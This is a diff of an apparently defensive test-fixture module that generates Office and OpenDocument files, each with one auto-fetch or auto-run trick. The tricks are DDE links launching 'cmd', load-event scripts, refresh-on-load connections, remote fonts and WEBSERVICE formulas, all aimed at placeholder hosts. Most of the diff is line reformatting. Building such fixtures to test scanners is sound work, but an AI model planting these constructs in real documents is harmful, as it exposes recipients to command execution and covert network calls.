@@ -1,5 +1,6 @@
-"""Word, Excel and OpenDocument files that fetch or start something when they are opened, one trick each; and files that do
-nothing by themselves. What would be fetched bears the word of `ELSEWHERE`."""
+"""Word, Excel and OpenDocument files that fetch or start something when they are opened, one trick each; and files
+that do nothing by themselves. What would be fetched bears the word of `ELSEWHERE`.
+"""
 
 import io
 import zipfile
@@ -16,7 +17,7 @@ R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 A = "http://schemas.openxmlformats.org/drawingml/2006/main"
 MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
 V = "urn:schemas-microsoft-com:vml"
-O = "urn:schemas-microsoft-com:office:office"
+OFFICE = "urn:schemas-microsoft-com:office:office"
 PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
 OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
 TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
@@ -76,7 +77,7 @@ KINDS = {"word/document.xml": "wordprocessingml.document", "xl/workbook.xml": "s
 
 
 def document(body: str = "<w:p><w:r><w:t>Devis</w:t></w:r></w:p>") -> str:
-    spaces = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:mc="{MC}" xmlns:v="{V}" xmlns:o="{O}"'
+    spaces = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:mc="{MC}" xmlns:v="{V}" xmlns:o="{OFFICE}"'
     return f'<w:document {spaces} xmlns:x="urn:x"><w:body>{body}<w:sectPr/></w:body></w:document>'
 
 
@@ -139,7 +140,8 @@ SPACES = " ".join(
 
 def content(body: str = "<text:p>Devis</text:p>", before: str = "") -> str:
     return (
-        f'<office:document-content {SPACES} office:version="1.3">{before}<office:body><office:text>{body}</office:text>'
+        f"<office:document-content {SPACES} "
+        f'office:version="1.3">{before}<office:body><office:text>{body}</office:text>'
         "</office:body></office:document-content>"
     )
 
@@ -149,8 +151,14 @@ def open_text(body: str, before: str = "", **more: str) -> Trick:
 
 
 def open_sheet(body: str) -> Trick:
-    table = f"<office:document-content {SPACES}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
-    return Trick("ods", {"content.xml": table})
+    return Trick("ods", {"content.xml": table(body)})
+
+
+def table(body: str = "") -> str:
+    return (
+        f"<office:document-content {SPACES}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>"
+        "</office:document-content>"
+    )
 
 
 def manifest(kind: str) -> str:
@@ -177,7 +185,7 @@ ORDINARY: dict[str, Parts] = {
     "odt": {"mimetype": ODT.encode(), "content.xml": content(), "META-INF/manifest.xml": manifest(ODT)},
     "ods": {
         "mimetype": ODS.encode(),
-        "content.xml": f"<office:document-content {SPACES}><office:body><office:spreadsheet/></office:body></office:document-content>",
+        "content.xml": table(),
         "META-INF/manifest.xml": manifest(ODS),
     },
 }
@@ -339,7 +347,8 @@ SHEET_TRICKS: dict[str, Trick] = {
         ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
         more=LINKS,
         **{
-            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>',
+            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}">'
+            '<externalBook r:id="rId1"/></externalLink>',
             "xl/externalLinks/_rels/externalLink1.xml.rels": outside("externalLinkPath"),
         },
     ),
@@ -347,13 +356,15 @@ SHEET_TRICKS: dict[str, Trick] = {
         ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
         more=LINKS,
         **{
-            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="{ELSEWHERE}"/></externalLink>'
+            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}">'
+            f'<ddeLink ddeService="cmd" ddeTopic="{ELSEWHERE}"/></externalLink>'
         },
     ),
     "a connection": book(
         ("rId9", "connections", "connections.xml", ""),
         **{
-            "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1" refreshOnLoad="1"><webPr url="{URL}"/></connection></connections>'
+            "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1" refreshOnLoad="1">'
+            f'<webPr url="{URL}"/></connection></connections>'
         },
     ),
     "buttons of its own": Trick(
@@ -438,15 +449,18 @@ OPEN_TRICKS: dict[str, Trick] = {
         f'<text:section text:name="a"><text:section-source xlink:href="{URL}"/><text:p>1</text:p></text:section>'
     ),
     "a link of DDE": open_text(
-        f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd" office:dde-topic="{ELSEWHERE}"/>'
+        f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd" '
+        f'office:dde-topic="{ELSEWHERE}"/>'
         "</text:dde-connection-decls>"
     ),
     "a section of DDE": open_text(
-        f'<text:section text:name="a"><office:dde-source office:dde-application="cmd" office:dde-item="{ELSEWHERE}"/></text:section>'
+        f'<text:section text:name="a"><office:dde-source office:dde-application="cmd" '
+        f'office:dde-item="{ELSEWHERE}"/></text:section>'
     ),
     "a script when it is opened": open_text(
         "<text:p/>",
-        f'<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="{URL}"/>'
+        f'<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
+        f'xlink:href="{URL}"/>'
         "</office:event-listeners></office:scripts>",
     ),
     "a script in the text": open_text(
@@ -455,7 +469,8 @@ OPEN_TRICKS: dict[str, Trick] = {
     "a page that comes again": Trick(
         "odt",
         {
-            "meta.xml": f'<office:document-meta {SPACES}><office:meta><meta:auto-reload xlink:href="{URL}" meta:delay="PT1S"/>'
+            "meta.xml": f"<office:document-meta {SPACES}><office:meta>"
+            f'<meta:auto-reload xlink:href="{URL}" meta:delay="PT1S"/>'
             "</office:meta></office:document-meta>"
         },
     ),
@@ -475,7 +490,8 @@ OPEN_TRICKS: dict[str, Trick] = {
         "odt",
         {
             "content.xml": content(
-                before=f'<office:font-face-decls><style:font-face style:name="a"><svg:font-face-src><svg:font-face-uri '
+                before=f"<office:font-face-decls><style:font-face "
+                f'style:name="a"><svg:font-face-src><svg:font-face-uri '
                 f'xlink:href="{URL}"/></svg:font-face-src></style:font-face></office:font-face-decls>'
             )
         },
@@ -483,7 +499,8 @@ OPEN_TRICKS: dict[str, Trick] = {
     "a background from elsewhere": Trick(
         "odt",
         {
-            "styles.xml": f'<office:document-styles {SPACES}><office:styles><draw:fill-image draw:name="a" xlink:href="{URL}"/>'
+            "styles.xml": f"<office:document-styles {SPACES}><office:styles>"
+            f'<draw:fill-image draw:name="a" xlink:href="{URL}"/>'
             f'<style:style style:name="b"><style:paragraph-properties><style:background-image xlink:href="{URL}"/>'
             "</style:paragraph-properties></style:style></office:styles></office:document-styles>"
         },
@@ -491,7 +508,8 @@ OPEN_TRICKS: dict[str, Trick] = {
     "settings from elsewhere": Trick(
         "odt",
         {
-            "settings.xml": f"<office:document-settings {SPACES}><office:settings><config:config-item-set config:name='a'>"
+            "settings.xml": f"<office:document-settings {SPACES}><office:settings>"
+            "<config:config-item-set config:name='a'>"
             f"<config:config-item config:name='ColorTableURL'>{URL}</config:config-item></config:config-item-set>"
             "</office:settings></office:document-settings>"
         },
@@ -508,14 +526,17 @@ OPEN_TRICKS: dict[str, Trick] = {
         "</table:table-cell></table:table-row></table:table>"
     ),
     "a formula of DDE": open_sheet(
-        f'<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;{ELSEWHERE}&quot;;&quot;a&quot;)"/>'
+        f"<table:table><table:table-row><table:table-cell "
+        f'table:formula="of:=DDE(&quot;cmd&quot;;&quot;{ELSEWHERE}&quot;;&quot;a&quot;)"/>'
         "</table:table-row></table:table>"
     ),
     "a formula of another file": open_sheet(
-        f"<table:table><table:table-row><table:table-cell table:formula=\"of:=['{URL}'#$a.A1]\"/></table:table-row></table:table>"
+        f"<table:table><table:table-row><table:table-cell "
+        f"table:formula=\"of:=['{URL}'#$a.A1]\"/></table:table-row></table:table>"
     ),
     "a formula WEBSERVICE": open_sheet(
-        f'<table:table><table:table-row><table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{URL}&quot;)"/>'
+        f"<table:table><table:table-row><table:table-cell "
+        f'table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{URL}&quot;)"/>'
         "</table:table-row></table:table>"
     ),
 }
